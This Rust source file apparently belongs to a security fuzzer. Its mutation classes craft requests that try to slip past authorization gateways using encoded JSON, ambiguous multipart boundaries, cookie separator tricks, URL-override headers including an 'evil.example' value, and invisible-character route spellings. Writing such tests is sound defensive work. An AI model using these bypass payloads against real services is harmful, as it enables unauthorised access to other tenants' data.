//! Mutation classes for what a hostile probe got past earlier gateways: wide-encoded JSON, loose multipart parameters and JSON parts, legacy cookie separators, flattened nested keys, URL-override headers, and route segments with suffixes, padding or invisible characters.
//!
//! Like the other classes, each adds one project reference (or respells one
//! route), so a leak is attributed to the one trick that caused it.

use crate::request::{case_flip, field, Ctx, Draft, Mutate, Rng};
use crate::targets::route;

fn quoted(v: &str) -> String {
    format!("\"{v}\"")
}

/// `text` in UTF-16 or UTF-32, either byte order, with or without a BOM.
fn wide(rng: &mut Rng, text: &str) -> Vec<u8> {
    let bom = rng.chance(50);
    let mut out = Vec::new();
    match rng.below(4) {
        0 | 1 => {
            let big = rng.chance(50);
            let units = bom.then_some('\u{feff}').into_iter().chain(text.chars());
            for u in units.collect::<String>().encode_utf16() {
                out.extend(if big {
                    u.to_be_bytes()
                } else {
                    u.to_le_bytes()
                });
            }
        }
        _ => {
            let big = rng.chance(50);
            for c in bom.then_some('\u{feff}').into_iter().chain(text.chars()) {
                let n = c as u32;
                out.extend(if big {
                    n.to_be_bytes()
                } else {
                    n.to_le_bytes()
                });
            }
        }
    }
    out
}

fn body_wide_json(rng: &mut Rng, d: &mut Draft, c: &Ctx) {
    let f = field(rng);
    d.json_member(rng, &quoted(f), &quoted(c.v));
    let text = String::from_utf8(d.body_bytes().unwrap_or_default()).unwrap_or_default();
    let body = wide(rng, &text);
    let types: [&[&[u8]]; 6] = [
        &[],
        &[b"text/plain"],
        &[b"application/octet-stream"],
        &[b"application/json"],
        &[b"application/json; charset=utf-16"],
        &[b"text/plain; charset=UTF-32"],
    ];
    let ct = rng.pick(&types);
    d.raw_body(body, ct);
}

/// A multipart body whose parts are delimited by `--{boundary}`, naming `v`
/// in a part called `name`; sometimes after a preamble, so that the body does
/// not name its own boundary on its first line.
fn multipart(rng: &mut Rng, boundary: &str, disposition: &str, v: &str) -> String {
    let mut body = String::new();
    if rng.chance(50) {
        body.push_str("preamble\r\n");
    }
    if rng.chance(50) {
        body.push_str(&format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"environment\"\r\n\r\ndev\r\n"
        ));
    }
    body.push_str(&format!(
        "--{boundary}\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{v}\r\n--{boundary}--\r\n"
    ));
    body
}

fn multipart_boundary_param(rng: &mut Rng, d: &mut Draft, c: &Ctx) {
    // The parameter as sent, the boundary a reader that takes everything up
    // to `;` sees, and one some other parser reads from it.
    let (param, whole, alt) = rng.pick(&[
        ("boundary=abc xyz", "abc xyz", "abc"),
        ("boundary=abc\txyz", "abc\txyz", "abc"),
        ("boundary=abc, boundary=xyz", "abc, boundary=xyz", "abc"),
        ("boundary=abc, boundary=xyz", "abc, boundary=xyz", "xyz"),
        ("boundary=abc,xyz", "abc,xyz", "abc"),
        ("boundary=a\"bc", "a\"bc", "a"),
        ("boundary=a\"bc", "a\"bc", "abc"),
        ("boundary=xyz; boundary*=utf-8''abc", "xyz", "abc"),
        ("boundary*=utf-8''abc; boundary=xyz", "xyz", "abc"),
        ("boundary=xyz; boundary*=UTF-8'en'a%62c", "xyz", "abc"),
        ("boundary= abc", " abc", "abc"),
    ]);
    let essence = rng.pick(&["multipart/form-data", "Multipart/Form-Data"]);
    let ct = format!("{essence}; {param}");
    let name = format!("name=\"{}\"", field(rng));
    let body = if rng.chance(70) {
        // A body well-formed under `whole` whose one part, read under `alt`,
        // holds a part naming `v`: each reader sees a different form.
        let hidden = format!(
            "x\r\n--{alt}\r\nContent-Disposition: form-data; {name}\r\n\r\n{}\r\n--{alt}--",
            c.v
        );
        let mut body = String::new();
        if rng.chance(50) {
            body.push_str(&format!(
                "--{whole}\r\nContent-Disposition: form-data; name=\"environment\"\r\n\r\ndev\r\n"
            ));
        }
        body.push_str(&format!(
            "--{whole}\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{hidden}\r\n--{whole}--\r\n"
        ));
        body
    } else {
        multipart(rng, alt, &name, c.v)
    };
    d.raw_body(body, &[ct.as_bytes()]);
}

fn multipart_part_name(rng: &mut Rng, d: &mut Draft, c: &Ctx) {
    let f = field(rng);
    let name = match rng.below(8) {
        0 => format!("name={f} x"),
        1 => format!("name={f}\tx"),
        2 => format!("name={f},x"),
        3 => format!("name= {f}"),
        4 => format!("name=\"{f}\" x"),
        5 => format!("name={f}\"x\""),
        6 => format!("name=\"{f} x\""),
        _ => format!("name={} x", case_flip(rng, f)),
    };
    let boundary = rng.pick(&["XyZ", "----WebKitFormBoundary7MA4YWxkTrZu0gW"]);
    let body = multipart(rng, boundary, &name, c.v);
    let ct = format!("multipart/form-data; boundary={boundary}");
    d.raw_body(body, &[ct.as_bytes()]);
}

fn multipart_json_part(rng: &mut Rng, d: &mut Draft, c: &Ctx) {
    // Tokens Python's json accepts and strict parsers refuse, before the key.
    let before = rng.pick(&[
        "",
        "\"y\":NaN,",
        "\"y\":Infinity,",
        "\"y\":-Infinity,",
        "\"y\":1e999999,",
        "\"y\":[NaN],",
    ]);
    let key = if rng.chance(25) {
        format!("\"project\":{{\"id\":{}}}", quoted(c.v))
    } else {
        format!("{}:{}", quoted(field(rng)), quoted(c.v))
    };
    let json = if rng.chance(20) {
        format!("[{{{before}{key}}}]")
    } else {
        format!("{{{before}{key}}}")
    };
    let part_type = rng.pick(&[
        "",
        "Content-Type: application/json\r\n",
        "Content-Type: application/json; charset=utf-8\r\n",
        "Content-Type: text/plain\r\n",
        "Content-Type: application/octet-stream\r\n",
    ]);
    // Most parts in UTF-8; some in UTF-16 or UTF-32, which `json.loads` decodes.
    let content = if rng.chance(20) {
        wide(rng, &json)
    } else {
        json.into_bytes()
    };
    let name = rng.pick(&[
        "name=\"meta\"",
        "name=\"data\"; filename=\"m.json\"",
        "name=\"file\"; filename=\"blob\"",
    ]);
    let boundary = "XyZ";
    let mut body = Vec::new();
    if rng.chance(50) {
        body.extend_from_slice(
            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"environment\"\r\n\r\ndev\r\n").as_bytes(),
        );
    }
    body.extend_from_slice(
        format!("--{boundary}\r\nContent-Disposition: form-data; {name}\r\n{part_type}\r\n")
            .as_bytes(),
    );
    body.extend_from_slice(&content);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let ct = format!("multipart/form-data; boundary={boundary}");
    d.raw_body(body, &[ct.as_bytes()]);
}

fn cookie_separators(rng: &mut Rng, d: &mut Draft, c: &Ctx) {
    let f = field(rng);
    let name = match rng.below(4) {
        0 => case_flip(rng, f),
        1 => rng
            .pick(&["workspace_id", "project_id", "Workspace-Id"])
            .to_string(),
        _ => f.to_string(),
    };
    let value = if rng.chance(20) {
        quoted(c.v)
    } else {
        c.v.to_string()
    };
    let sep = rng.pick(&[", ", ",", " ", "\t", "; ", " , ", ";"]);
    let other = rng.pick(&["a=b", "session=s1", "$Version=1"]);
    let pair = format!("{name}={value}");
    let cookie = match rng.below(5) {
        0 | 1 => format!("{other}{sep}{pair}"),
        2 | 3 => format!("{pair}{sep}{other}"),
        // The verified project first and `v` after a legacy separator: a
        // parser that splits only at `;` reads one value holding both.
        _ => format!(
            "{name}={}{}{}",
            crate::request::P1,
            rng.pick(&[",", ", ", " ", "\t"]),
            c.v
        ),
    };
    d.header("Cookie", cookie);
}

fn json_flattened(rng: &mut Rng, d: &mut Draft, c: &Ctx) {
    let outer = rng.pick(&["workspace", "project", "Workspace", "PROJECT", "work_space"]);
    let inner = rng.pick(&["id", "Id", "ID", "_id"]);
    let v = quoted(c.v);
    let (key, value) = match rng.below(5) {
        0 => (outer.to_string(), format!("{{\"{inner}\":{v}}}")),
        1 => (
            outer.to_string(),
            format!("{{\"name\":\"x\",\"{inner}\":{v}}}"),
        ),
        2 => (outer.to_string(), format!("[{{\"{inner}\":{v}}}]")),
        3 => (
            "items".to_string(),
            format!("[{{\"{outer}\":{{\"{inner}\":{v}}}}}]"),
        ),
        _ => (
            "data".to_string(),
            format!("{{\"{outer}\":{{\"{inner}\":{v}}}}}"),
        ),
    };
    d.json_member(rng, &quoted(&key), &value);
}

fn header_url_override(rng: &mut Rng, d: &mut Draft, c: &Ctx) {
    let name = rng.pick(&[
        "X-Original-URL",
        "X-Rewrite-URL",
        "X-Original-URI",
        "X-Forwarded-Uri",
        "X-Forwarded-Path",
        "X-Envoy-Original-Path",
    ]);
    let name = match rng.below(4) {
        0 => case_flip(rng, name),
        1 => name.replace('-', "_"),
        _ => name.to_string(),
    };
    let value = match rng.below(5) {
        0 => format!("/api/v1/things?{}={}", field(rng), c.v),
        1 => format!("http://evil.example{}", route(rng, c.v)),
        2 => format!("{}?environment=dev", route(rng, c.v)),
        _ => route(rng, c.v),
    };
    d.header(name, value);
}

fn path_route_spelling(rng: &mut Rng, d: &mut Draft, c: &Ctx) {
    let p = route(rng, c.v);
    let mut segments: Vec<String> = p.split('/').map(str::to_string).collect();
    // segments[0] is empty; 1..=3 are api, version, kind; 4 is the id.
    let at = if rng.chance(15) { 4 } else { 1 + rng.below(3) };
    let seg = segments[at].clone();
    let invisible = [
        "%E2%80%8B", // zero-width space
        "%E2%80%8C", // zero-width non-joiner
        "%E2%80%8D", // zero-width joiner
        "%E2%80%8E", // left-to-right mark
        "%E2%81%A0", // word joiner
        "%C2%AD",    // soft hyphen
        "%EF%BB%BF", // BOM
        "%EF%B8%8F", // variation selector 16
        "%E3%85%A4", // Hangul filler
    ];
    segments[at] = match rng.below(4) {
        0 => format!(
            "{seg}{}",
            rng.pick(&[".json", ".xml", ".html", ".json.bak"])
        ),
        1 => {
            let pad = rng.pick(&["%20", "%20%20", "%C2%A0", "%E3%80%80"]);
            match rng.below(3) {
                0 => format!("{pad}{seg}"),
                1 => format!("{seg}{pad}"),
                _ => format!("{pad}{seg}{pad}"),
            }
        }
        _ => {
            let cut = rng.below(seg.len() + 1);
            format!("{}{}{}", &seg[..cut], rng.pick(&invisible), &seg[cut..])
        }
    };
    d.set_path(segments.join("/").as_bytes());
}

/// Every class of this file; the name is what the report shows.
pub const CLASSES: &[(&str, Mutate)] = &[
    ("body.wide-json", body_wide_json),
    ("multipart.boundary-param", multipart_boundary_param),
    ("multipart.part-name", multipart_part_name),
    ("multipart.json-part", multipart_json_part),
    ("cookie.separators", cookie_separators),
    ("json.flattened-key", json_flattened),
    ("header.url-override", header_url_override),
    ("path.route-spelling", path_route_spelling),
];
